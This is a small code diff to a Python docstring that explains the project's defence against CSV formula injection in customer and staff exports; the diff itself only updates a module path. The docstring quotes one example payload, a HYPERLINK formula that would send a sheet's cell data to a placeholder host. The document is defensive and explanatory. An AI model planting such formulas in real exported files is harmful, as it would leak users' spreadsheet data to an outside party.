@@ -4,7 +4,8 @@ A cell that starts with ``= + - @`` (or a tab or carriage return, which Excel sk
 one of those) is run as a formula when the file is opened: ``=HYPERLINK("http://x/?"&A1,"y")``
 in a website name or a crawled page title would send the sheet's data away on a click
 (https://owasp.org/www-community/attacks/CSV_Injection). A leading apostrophe makes it text.
-The customer CSVs (audits.exports) and the staff admin exports (core.viewsets) both use it.
+The customer CSVs (audits.selectors.exports) and the staff admin exports (core.viewsets) both
+use it.
 """
 
 from __future__ import annotations
